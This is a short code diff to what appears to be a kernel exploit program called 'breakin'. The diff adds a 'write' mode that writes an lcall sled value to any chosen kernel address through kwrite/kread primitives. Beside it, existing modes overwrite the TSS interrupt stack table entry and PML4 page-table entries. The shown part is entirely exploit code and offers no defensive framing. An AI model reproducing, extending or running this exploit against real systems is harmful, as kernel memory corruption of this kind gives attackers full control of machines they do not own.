@@ -189,6 +189,10 @@ int main(int argc, char **argv)
         kwrite(a, lcall_sled);
         printf("breakin: success: tss.ist[0] at 0x%lx reads back 0x%lx (wrote 0x%lx)\n", a, kread(a),
                sled_value(lcall_sled));
+    } else if (!strcmp(mode, "write")) {
+        kwrite(a, lcall_sled);
+        printf("breakin: success: 0x%lx written, reads back 0x%lx (wrote 0x%lx)\n", a, kread(a),
+               sled_value(lcall_sled));
     } else if (!strcmp(mode, "pml4")) {
         kwrite(a + 510 * 8, lcall_sled);
         printf("breakin: success: pml4 at 0x%lx: wrote entry 510 = 0x%lx, entry 511 = 0x23\n", a,
